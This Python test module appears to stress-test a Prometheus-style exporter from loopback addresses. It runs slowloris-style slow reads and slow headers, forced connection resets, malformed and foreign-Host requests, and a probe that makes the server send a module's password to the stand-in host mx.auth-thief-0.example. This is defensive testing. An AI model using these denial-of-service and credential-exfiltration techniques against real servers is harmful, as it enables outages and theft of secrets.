"""Web clients of every bad kind at once, each connection from an address of its own choice."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import random
import re
import socket
import struct
from collections import Counter
from collections.abc import Callable, Coroutine
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import urlsplit

from tests.attack.world.kinds import Room
from tests.attack.world.odd_requests import FOREIGN_HOSTS, ODD, OTHER_SITES, PAGES, noise
from tests.attack.world.plan import Plan

_STATUS: Final = re.compile(rb"HTTP/1\.[01] (\d{3}) ")
_CONNECT_SECONDS: Final = 5.0
_ANSWER_SECONDS: Final = 5.0
_AGAIN_SECONDS: Final = 0.5  # before one that was thrown out comes back
_MOST_AT_ONCE: Final = 100  # of the paced ones of a kind
_MOST_READ: Final = 1 << 20
_RESET: Final = struct.pack("ii", 1, 0)


@dataclass
class Seen:
    """What came of it. Statuses are counted by kind."""

    tries: Counter[str] = field(default_factory=Counter)
    broken: Counter[str] = field(default_factory=Counter)  # requests answered with 500, by their first line
    obeyed: Counter[str] = field(default_factory=Counter)  # requests that should have been refused, and were not


class WebClients:
    """The clients of all active kinds; run them as tasks."""

    def __init__(self, plan: Plan, seen: Seen) -> None:
        self._plan = plan
        self._seen = seen
        where = urlsplit(plan.url)
        self._server = (where.hostname or "", where.port or 0)
        self._host = where.netloc.encode()
        self._names = itertools.count()

    def jobs(self) -> list[Coroutine[Any, Any, None]]:
        """What there is to run, each without end."""
        pace = self._plan.pace
        made: dict[str, Callable[[], list[Coroutine[Any, Any, None]]]] = {
            "web-slow-readers": lambda: [self._parked(self._read_slowly) for _ in range(pace.readers)],
            "web-slow-heads": lambda: [self._parked(self._say_slowly, number) for number in range(pace.dripping)],
            "web-connects": lambda: [self._paced(pace.connects, self._drop)],
            "web-odd-requests": lambda: [self._paced(pace.requests, self._odd)],
            "web-other-sites": lambda: [self._paced(pace.requests, self._foreign)],
            "web-pages": lambda: [self._paced(pace.pages, self._page)],
            "web-probes": lambda: [self._paced(pace.probes, self._probe)],
            "web-thief": lambda: [self._paced(pace.probes / 4, self._steal)],
        }
        return [job for kind in self._plan.active(Room.WEB) for job in made[kind.name]()]

    async def _paced(self, rate: float, act: Callable[[], Coroutine[Any, Any, None]]) -> None:
        """Begin so many a second, whatever becomes of them."""
        under_way: set[asyncio.Task[None]] = set()
        while True:
            await asyncio.sleep(1 / rate)
            if len(under_way) < _MOST_AT_ONCE:
                task = asyncio.ensure_future(_quietly(act()))
                under_way.add(task)
                task.add_done_callback(under_way.discard)

    async def _parked(self, act: Callable[..., Coroutine[Any, Any, None]], *arguments: int) -> None:
        """One place that is taken again as soon as it is lost."""
        await asyncio.sleep(2 * random.random())
        while True:
            await _quietly(act(*arguments))
            await asyncio.sleep(_AGAIN_SECONDS * (1 + random.random()))

    async def _connect(self, kind: str, *, little: bool = False) -> socket.socket:
        self._seen.tries[kind] += 1
        client = socket.socket()
        try:
            if little:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            client.setblocking(False)
            client.bind((f"127.{self._plan.block}.251.{random.randrange(1, 255)}", 0))
            async with asyncio.timeout(_CONNECT_SECONDS):
                await asyncio.get_running_loop().sock_connect(client, self._server)
        except BaseException:
            client.close()
            raise
        return client

    async def _read_slowly(self) -> None:
        loop = asyncio.get_running_loop()
        with await self._connect("web-slow-readers", little=True) as client:
            path = random.choice((b"/metrics", b"/metrics", b"/metrics", b"/", b"/sd", b"/config"))
            await loop.sock_sendall(client, b"GET %b HTTP/1.1\r\nHost: %b\r\n\r\n" % (path, self._host))
            async with asyncio.timeout(self._plan.pace.parked):
                size = 12
                while await loop.sock_recv(client, size):
                    size = 1
                    await asyncio.sleep(2.0)

    async def _say_slowly(self, number: int) -> None:
        loop = asyncio.get_running_loop()
        said = (
            b"",
            b"GET / HTTP/1.1\r\nHost: %b\r\n%b" % (self._host, b"X: y\r\n" * 100),
            b"POST /-/healthy HTTP/1.1\r\nHost: %b\r\nContent-Length: 1000000\r\n\r\n" % self._host + b"x" * 1000,
        )[number % 3]
        with await self._connect("web-slow-heads") as client:
            async with asyncio.timeout(self._plan.pace.parked):
                for byte in said:
                    await loop.sock_sendall(client, bytes([byte]))
                    await asyncio.sleep(1.0)
                await loop.sock_recv(client, 4096)

    async def _drop(self) -> None:
        with await self._connect("web-connects") as client:
            choice = self._seen.tries["web-connects"] % 3
            if choice:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
            if choice == 2:
                client.send(b"GET /metrics HTTP/1.1\r\nHost: %b\r\n\r\n" % self._host)

    async def _odd(self) -> None:
        number = self._seen.tries["web-odd-requests"]
        request = ODD[number % len(ODD)] if number % 5 else noise()
        status = await self._ask("web-odd-requests", request)
        if status == 500:
            self._seen.broken[_first_line(request)] += 1

    async def _foreign(self) -> None:
        every = OTHER_SITES + FOREIGN_HOSTS
        request = every[self._seen.tries["web-other-sites"] % len(every)]
        status = await self._ask("web-other-sites", request)
        if status is not None and (status < 400 or status == 500):
            self._seen.obeyed[_first_line(request)] += 1

    async def _page(self) -> None:
        await self._get("web-pages", PAGES[self._seen.tries["web-pages"] % len(PAGES)])

    async def _probe(self) -> None:
        await self._get("web-probes", f"/probe?target=web-probes-{next(self._names)}.example")

    async def _steal(self) -> None:
        """The password of a module, by having a host of ours probed with it."""
        target = f"mx.auth-thief-0.example:{self._plan.smtp_port}"
        await self._get("web-thief", f"/probe?target={target}&module=submission")

    async def _get(self, kind: str, path: str) -> None:
        head = f"GET {path} HTTP/1.1\r\nX-Prometheus-Scrape-Timeout-Seconds: 5\r\nConnection: close\r\n"
        await self._ask(kind, head.encode() + b"Host: {host}\r\n\r\n")

    async def _ask(self, kind: str, request: bytes) -> int | None:
        """Say it whole and read the answer; its status."""
        loop = asyncio.get_running_loop()
        with await self._connect(kind) as client:
            async with asyncio.timeout(_ANSWER_SECONDS):
                await loop.sock_sendall(client, request.replace(b"{host}", self._host))
                head = data = await loop.sock_recv(client, 1 << 16)
                total = len(data)
                while data and total < _MOST_READ:
                    data = await loop.sock_recv(client, 1 << 16)
                    total += len(data)
        found = _STATUS.match(head)
        return None if found is None else int(found[1])


async def _quietly(act: Coroutine[Any, Any, None]) -> None:
    """That we are thrown out, or not let in, is what the attack is for."""
    with contextlib.suppress(OSError, TimeoutError):
        await act


def _first_line(request: bytes) -> str:
    return request.split(b"\r\n")[0][:80].decode("ascii", "backslashreplace")
